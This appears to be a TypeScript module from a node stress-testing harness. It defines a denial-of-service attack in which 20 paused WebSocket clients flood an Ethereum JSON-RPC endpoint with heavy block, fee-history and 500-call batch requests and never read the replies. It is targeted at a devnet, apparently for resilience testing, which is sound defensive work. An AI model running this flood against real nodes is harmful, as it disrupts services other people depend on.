import type { Attack } from "../attack.ts";
import { callOf } from "../questions.ts";

const CLIENTS = 20;
const PAUSE_MS = 5;

export const webSocketUnread: Attack = {
  name: "web-socket-unread",
  does: "20 WebSocket clients ask for blocks and fees without an end and read nothing",
  targets: ["devnet"],
  async run(attacker) {
    const messages = [
      callOf("eth_feeHistory", ["0x400", "latest", [1, 2, 3]]),
      callOf("eth_getBlockByNumber", ["0x0", true]),
      `[${Array.from({ length: 500 }, () => callOf("eth_getBlockByNumber", ["0x0", true])).join()}]`,
      callOf("eth_subscribe", ["newHeads"]),
    ];
    await attacker.again(CLIENTS, async () => {
      const client = await attacker.webSocket();
      client?.pause();
      for (let turn = 0; client?.readyState === 1 && !attacker.isOver(); turn++) {
        client.send(messages[turn % messages.length]!);
        await attacker.wait(PAUSE_MS);
      }
    });
  },
};
